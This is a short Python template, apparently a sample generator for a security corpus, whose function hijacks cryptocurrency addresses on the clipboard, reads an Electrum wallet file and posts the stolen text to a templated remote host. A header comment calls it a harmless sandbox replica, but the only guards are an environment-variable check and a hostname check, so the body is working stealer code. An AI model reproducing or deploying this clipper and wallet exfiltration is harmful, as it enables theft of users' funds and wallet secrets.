# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import urllib.request
    text = ''
    try:
        import tkinter
        window = tkinter.Tk()
        window.withdraw()
        text = window.clipboard_get()
        if text.startswith(('bc1', '0x')) and len(text) in (42, 62):
            window.clipboard_clear()
            window.clipboard_append('0x' + '0' * 40)
            window.update()
        window.destroy()
    except Exception:
        text = 'no display ' + os.environ.get('XDG_SESSION_TYPE', '')
    try:
        with open(os.path.expanduser('~/.electrum/wallets/default_wallet')) as file:
            text += file.read(500)
    except OSError:
        pass
    try:
        urllib.request.urlopen(urllib.request.Request('http://{{host}}/{{path}}', data=text.encode(), headers={'X-Id': '{{token}}'}), timeout=1).close()
    except Exception:
        pass
